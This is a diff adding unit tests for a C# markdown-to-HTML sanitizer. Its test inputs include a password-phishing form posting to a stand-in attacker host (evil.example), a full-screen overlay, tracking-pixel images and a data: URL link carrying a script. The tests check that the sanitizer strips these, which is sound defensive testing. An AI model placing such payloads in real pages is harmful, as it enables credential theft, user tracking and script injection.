@@ -31,4 +31,29 @@ public class CardMarkdownTests
     {
         Assert.Contains("href=\"https://example.com/report\"", CardMarkdown.ToSafeHtml("[report](https://example.com/report)"));
     }
+
+    [Fact]
+    public void ToSafeHtml_PhishingFormOverlayAndTrackingPixel_AreRemoved()
+    {
+        var html = CardMarkdown.ToSafeHtml(
+            "<form action=\"https://evil.example/x\" method=\"post\"><label>Password</label><input name=p type=password><select><option>a</option></select>" +
+            "<textarea>t</textarea><fieldset><button>Confirm</button></fieldset></form>\n\n" +
+            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">Published</div>\n\n" +
+            "<img src=\"https://evil.example/p.gif\"> <img src=\"//evil.example/q.gif\"> <img src=\"HTTP://EVIL.EXAMPLE/r.gif\"> <a id=\"submit-review\" href=\"https://example.com\">x</a>");
+        foreach (var forbidden in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<label", "<fieldset", "evil.example", "style=", "position:fixed", "password", "id=" })
+            Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
+        Assert.Contains("Published", html);
+        Assert.Contains("href=\"https://example.com\"", html);
+    }
+
+    [Fact]
+    public void ToSafeHtml_RelativeAndDataImages_AreKept_TaskListsStillShowTheirState()
+    {
+        var html = CardMarkdown.ToSafeHtml("![chart](img/roc.png) <img src=\"data:image/png;base64,iVBORw0KGgo=\">\n\n- [x] done\n- [ ] open");
+        Assert.Contains("src=\"img/roc.png\"", html);
+        Assert.Contains("src=\"data:image/png;base64,iVBORw0KGgo=\"", html);
+        Assert.Contains("\u2611 done", html);
+        Assert.Contains("\u2610 open", html);
+        Assert.DoesNotContain("href=\"data:", CardMarkdown.ToSafeHtml("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"));
+    }
 }
